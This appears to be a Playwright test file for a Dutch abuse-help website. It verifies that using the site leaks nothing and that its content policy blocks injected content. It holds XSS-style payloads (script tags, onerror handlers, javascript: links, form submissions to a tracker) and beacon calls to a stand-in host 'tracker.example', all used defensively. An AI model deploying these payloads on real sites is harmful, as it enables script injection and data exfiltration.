/**
 * The whole leak test: one person uses everything there is, in one tab, while everything that goes out, stays behind or
 * is said is written down. What they typed and chose may stand nowhere. And an attack in the content: what the content
 * check would refuse stands in a page here all the same, and the policy of the page must stop it.
 */
import { expect, type Locator, type Page, test } from '@playwright/test';
import { marked } from 'marked';
import { serveChanged, servePage } from '../support/changed-site.ts';
import { answer, enter, showResult } from '../support/flow.ts';
import { attacker, attacks } from '../support/hostile.ts';
import { rootSite, siteUrl } from '../support/sites.ts';
import { keptBy, type Record, spyOn } from '../support/spy.ts';

/** What this person types, and the ids and words of what they choose: nothing of it may leave the screen. */
const typed = 'verkracht door mijn oom';
const secrets =
  /verkracht|mijn oom|oom\b|urk\b|8321|gm0184|image-made-when|images-threatened|last-3-days|\brape\b|without-name|\bself\b|someone-near/i;

/** Kinds of file that opening a page may load from the site itself. */
const loads = /^GET (document|script|stylesheet|font|image|other) /;

/** Ways to reach out or keep, of which none may be used. */
const silent = (records: Record[]) =>
  records.filter(
    ({ kind }) => !['request', 'address', 'history', 'title', 'clipboard', 'storage'].includes(kind),
  );

/** Opens every fold within a part of the page, also one in another. */
const unfold = (part: Locator) =>
  part.locator('details').evaluateAll((all) => {
    for (const fold of all) (fold as HTMLDetailsElement).open = true;
  });

async function toResult(page: Page, from?: string) {
  await enter(page, 'self', undefined, from);
  await answer(page, 'safety', 'safe');
  await answer(page, 'what', 'images-threatened', 'rape');
  await answer(page, 'image-made-when', 'unknown');
  await answer(page, 'when', 'last-3-days');
}

/** Ticks every box of every filter, and fills in a place. Boxes come and go with what is ticked. */
async function useFilters(page: Page): Promise<number> {
  const result = page.locator('[data-flow=result]');
  let ticked = 0;
  for (let box = 0; box < 80; box++) {
    await unfold(result);
    const next = result
      .locator('[data-filter] input:not([type=text]):not(:checked)')
      .nth(ticked > 0 ? 0 : box);
    if (!(await next.isVisible())) break;
    const before = await result.locator('[data-filter] input:checked').count();
    await next.click();
    if ((await result.locator('[data-filter] input:checked').count()) > before) ticked += 1;
    else break; // a radio button took the place of another: all that can be ticked together is ticked
  }
  const place = page.locator('[data-filter]', { has: page.locator('input[type=text]') });
  await unfold(result);
  await place.locator('input[type=text]').fill('8321');
  await place.getByRole('button', { name: 'Zoek' }).click();
  return ticked;
}

/** Every sheet to take along, copied and printed. */
async function takeAlong(page: Page) {
  for (const name of ['Alleen het nummer', 'Kaartje', 'Briefje voor je eerste gesprek']) {
    const button = page.getByRole('button', { name });
    await button.click();
    const sheet = page.locator('.sheet');
    for (const copy of await sheet.getByRole('button', { name: 'Kopieer' }).all()) await copy.click();
    for (const choice of await sheet.locator('select').all()) await choice.selectOption({ index: 1 });
    for (const box of await sheet.locator('input').all()) await box.check();
    await sheet.locator('[data-print]').click();
  }
  await page.evaluate(() => window.dispatchEvent(new Event('beforeprint')));
  await page.evaluate(() => window.dispatchEvent(new Event('afterprint')));
}

async function useFlow(page: Page) {
  await toResult(page, './');
  await page.goBack();
  await page.goForward();
  await showResult(page);
  await takeAlong(page); // first: a filter can say that someone looks along, which leaves one sheet
  expect(await useFilters(page)).toBeGreaterThan(10);
  await page.locator('[data-edit="what"]').click();
  await answer(page, 'what', 'rape');
}

async function useDiscreetFlow(page: Page) {
  await page.goto('./vragen/');
  await page.locator('#flow[data-ready]').waitFor({ state: 'attached' });
  await page.getByText('Kijkt er iemand mee met de terugknop?').click();
  await page.getByLabel('Zet mijn stappen niet in de lijst van de terugknop').check();
  await page.locator('[data-door="self"]:not([data-age])').first().click();
  await answer(page, 'safety', 'someone-near');
  await answer(page, 'what', 'images-threatened', 'rape');
  await showResult(page);
  await page.locator('[data-flow]').getByRole('button', { name: 'Terug' }).first().click();
  await showResult(page);
  await page.locator('[data-result] a[href*="/hulp/"]').first().click();
  await expect(page).toHaveURL(/\/hulp\//);
}

async function usePreparedLink(page: Page) {
  await page.goto('./vragen/#huisarts');
  await expect(page.locator('[data-flow]')).toBeVisible();
}

async function useSearch(page: Page) {
  await page.goto('./zoeken/');
  const field = page.getByLabel('Zoek in je eigen woorden');
  await field.focus();
  await expect(page.locator('[data-search][data-ready]')).toBeVisible();
  await field.pressSequentially(typed);
  await expect(page.locator('[data-result]').first()).toBeVisible();
  await unfold(page.locator('main'));
  for (const wish of await page.locator('[data-wish]').all()) if (await wish.isVisible()) await wish.check();
  for (const wish of await page.locator('[data-wish]').all())
    if (await wish.isVisible()) await wish.uncheck();
  await page.locator('[data-result] a[href*="/hulp/"]').first().click();
  await expect(page).toHaveURL(/\/hulp\//);
}

async function useHelpPoint(page: Page) {
  await page.goto('./hulp/kindertelefoon/');
  await page.getByRole('button', { name: 'Kopieer het nummer' }).click();
  await unfold(page.locator('main'));
  await page.goto('./nu-open/');
  await expect(page.locator('[data-open-first-note]').first()).toBeVisible();
}

async function usePlaces(page: Page) {
  await page.goto('./in-de-buurt/');
  await page.getByLabel('Je postcode of gemeente').fill('8321');
  await page.getByRole('button', { name: 'Zoek' }).click();
  await expect(page.getByRole('heading', { name: 'Hulp voor Urk' })).toBeVisible();
  await page.goto('./in-de-buurt/flevoland/');
  await unfold(page.locator('main'));
  await page.locator('main a[href*="/hulp/"]').first().click();
}

async function useTools(page: Page) {
  await page.goto('./herkennen/');
  await page.getByLabel('Minder details').check();
  await unfold(page.locator('main'));
  await page.goto('./professionals/vergelijken/');
  await expect(page.locator('#compare[data-ready]')).toBeVisible();
  for (const [index, choice] of (await page.locator('main select').all()).entries())
    await choice.selectOption({ index: index + 1 });
  for (const path of ['./afdrukken/', './afdrukken/veilig-thuis/', './afdrukken/poster/openbaar/'])
    await page.goto(path);
  for (const path of [
    './eerste-week/',
    './cijfers/',
    './landschap/',
    './data/',
    './veilig-en-anoniem/',
    './bestaat-niet/',
  ]) {
    await page.goto(path);
    await unfold(page.locator('main'));
  }
}

test('using everything sends, keeps and says nothing of it', async ({ page, context }) => {
  test.setTimeout(120_000);
  await context.grantPermissions(['clipboard-write']);
  const records = await spyOn(context);
  const features = [useFlow, useDiscreetFlow, usePreparedLink, useSearch, useHelpPoint, usePlaces, useTools];
  for (const use of features) {
    await use(page);
    expect(await keptBy(page), use.name).toEqual([]);
    expect(await page.evaluate(() => JSON.stringify(history.state))).toMatch(/^(null|\{"step":\d+\})$/);
  }

  await context.route(
    ({ origin }) => origin !== siteUrl(rootSite),
    (route) => route.fulfill({ contentType: 'text/html', body: 'elders' }),
  );
  await page.goto('./');
  const before = records.length;
  await page.goto('./vragen/');
  await page.locator('#leave').click();
  await page.waitForURL(({ origin }) => origin !== siteUrl(rootSite));
  const exit = records
    .splice(before)
    .filter(({ kind, what }) => kind === 'request' && !what.includes(siteUrl(rootSite)));
  expect(exit).toHaveLength(1); // one visit, no Referer, no data
  expect(exit[0]?.what).toMatch(/^GET document https:\/\/\S+ {2}$/);
  await page.goBack();
  const kept = (await keptBy(page)).filter((one) => !/^\d+ bytes$/.test(one));
  expect(kept).toEqual(['sessionStorage w=1']);

  expect(records.length).toBeGreaterThan(30);
  expect(records.filter(({ what }) => secrets.test(what))).toEqual([]);
  const addresses = records.filter(({ kind }) => kind === 'address').map(({ what }) => what);
  expect(
    addresses.filter((address) => /[?#]/.test(address) && !address.endsWith('/vragen/#huisarts')),
  ).toEqual([]);
  // The tab says where someone is on the site, and in the flow not even that.
  const titles = records.filter(({ kind }) => kind === 'title').map(({ what }) => what);
  expect(titles.length).toBeGreaterThan(15);
  const requests = records.filter(({ kind }) => kind === 'request').map(({ what }) => what);
  expect(requests.filter((what) => !loads.test(what) || !what.includes(` ${siteUrl(rootSite)}/`))).toEqual(
    [],
  );
  expect(requests.filter((what) => !/ \S+ {2}$/.test(what))).toEqual([]); // no body, no Referer
  // The console of the 404 page holds the browser's own line about its status.
  expect(silent(records).filter(({ what }) => !what.includes('status of 404'))).toEqual([]);
  expect(records.filter(({ kind }) => kind === 'storage')).toEqual([]);
  for (const { what } of records.filter(({ kind }) => kind === 'history'))
    expect(what).toMatch(/^\[(null|\{"step":\d+\}),""(,"\/vragen\/")?\]$/);
  for (const { what } of records.filter(({ kind }) => kind === 'clipboard'))
    expect(what).toMatch(/^\["[\d -]+"\]$/);
});

test('the recorder notices every way out', async ({ page, context }) => {
  const records = await spyOn(context);
  await page.goto('./');
  await page.evaluate(async () => {
    const quietly = (use: () => unknown) => {
      try {
        Promise.resolve(use()).catch(() => {});
      } catch {
        // The policy stopped it; that it was tried is what counts.
      }
    };
    quietly(() => fetch('https://tracker.example/'));
    quietly(() => navigator.sendBeacon('https://tracker.example/'));
    quietly(() => new XMLHttpRequest().open('GET', 'https://tracker.example/'));
    quietly(() => new WebSocket('wss://tracker.example/'));
    quietly(() => new EventSource('https://tracker.example/'));
    quietly(() => new RTCPeerConnection());
    quietly(() => new Worker('/worker.js'));
    quietly(() => {
      new Image().src = 'https://tracker.example/';
    });
    quietly(() => localStorage.setItem('a', 'b'));
    quietly(() => history.replaceState({ answer: 'rape' }, ''));
    // biome-ignore lint/suspicious/noDocumentCookie: this is what a leak would do
    quietly(() => (document.cookie = 'a=b'));
    quietly(() => (document.title = 'rape'));
    window.name = 'rape';
    indexedDB.open('a');
  });
  const kinds = new Set(records.map(({ kind }) => kind));
  for (const kind of [
    'fetch',
    'sendBeacon',
    'XMLHttpRequest',
    'WebSocket',
    'EventSource',
    'RTCPeerConnection',
    'Worker',
    'image',
    'storage',
    'history',
    'cookie',
    'title',
    'indexedDB',
  ])
    expect(kinds, kind).toContain(kind);
  expect((await keptBy(page)).join()).toMatch(/cookie a.*localStorage a=b.*window\.name rape/);
});

test.describe('hostile content that got into a page', () => {
  for (const [name, text] of Object.entries(attacks))
    test(`${name} reaches nobody and runs nothing, and would without the policy`, async ({ page }) => {
      const tracker = await servePage('window.attacked = true');
      const hostile = marked.parse(text.replaceAll(attacker, tracker.url), { async: false });
      const bare = await servePage(`<!doctype html><main>${hostile}</main>`);
      const site = await serveChanged((html) => html.replace(/<main[^>]*>/, (main) => `${main}${hostile}`));
      const harm = async (url: string) => {
        tracker.requests.length = 0;
        await page.goto(url, { waitUntil: 'load' });
        await page.evaluate(() => document.querySelector<HTMLElement>('a[href^="javascript:"]')?.click());
        await page.waitForTimeout(300); // for what would go out
        const attacked = await page.evaluate(() => 'attacked' in window).catch(() => true);
        return attacked || tracker.requests.length > 0;
      };
      try {
        expect(await harm(`${site.url}over/`)).toBe(false);
        expect(await harm(bare.url)).toBe(true);
      } finally {
        for (const server of [site, bare, tracker]) server.stop();
      }
    });

  const attack = (tracker: string) => `
    <script>window.attacked = 'inline script'</script>
    <script src="${tracker}script.js"></script>
    <script src="data:text/javascript,window.attacked='data'"></script>
    <img src="${tracker}pixel.png" onerror="window.attacked = 'handler'">
    <img src="x" onerror="window.attacked = 'handler'">
    <p id="styled" style="background: url(${tracker}style.png); color: rgb(1, 2, 3)">stijl</p>
    <style>#styled { background: url(${tracker}sheet.png) }</style>
    <link rel="stylesheet" href="${tracker}sheet.css">
    <iframe src="${tracker}frame"></iframe>
    <object data="${tracker}object"></object>
    <video src="${tracker}video"></video>
    <svg><image href="${tracker}vector.png"/></svg>
    <form id="form" action="${tracker}form"><input name="q" value="geheim"></form>
    <base href="${tracker}">
    <a id="run" href="javascript:window.attacked = 'link'">lees meer</a>`;

  test('runs no script, loads nothing from elsewhere and sends no form', async ({ page }) => {
    // A real server: the browser announces a request before the policy stops it, so what counts is what arrives.
    const tracker = await servePage('window.attacked = "script"');
    const site = await serveChanged((html) =>
      html.replace(/<main[^>]*>/, (main) => `${main}${attack(tracker.url)}`),
    );
    try {
      await page.goto(`${site.url}over/`, { waitUntil: 'domcontentloaded' });
      await page.evaluate(() => document.getElementById('run')?.click());
      const seen = await page.evaluate(() => ({
        attacked: (window as unknown as { attacked?: string }).attacked,
        colour: getComputedStyle(document.getElementById('styled') as Element).color,
      }));
      expect(seen.attacked).toBeUndefined();
      expect(seen.colour).not.toBe('rgb(1, 2, 3)');
      await page.evaluate(() => (document.getElementById('form') as HTMLFormElement).submit());
      await page.waitForTimeout(300); // for what would go out
      expect(tracker.requests.map(({ url }) => url)).toEqual([]);
      expect(page.url()).toBe(`${site.url}over/`);
    } finally {
      site.stop();
      tracker.stop();
    }
  });

  test('would do all of that on a page without a policy', async ({ page }) => {
    const tracker = await servePage('window.attacked = "script"');
    const bare = await servePage(`<!doctype html><main>${attack(tracker.url)}</main>`);
    try {
      await page.goto(bare.url, { waitUntil: 'domcontentloaded' });
      await expect.poll(() => new Set(tracker.requests.map(({ url }) => url)).size).toBeGreaterThan(5);
      expect(await page.evaluate(() => 'attacked' in window)).toBe(true);
    } finally {
      bare.stop();
      tracker.stop();
    }
  });
});
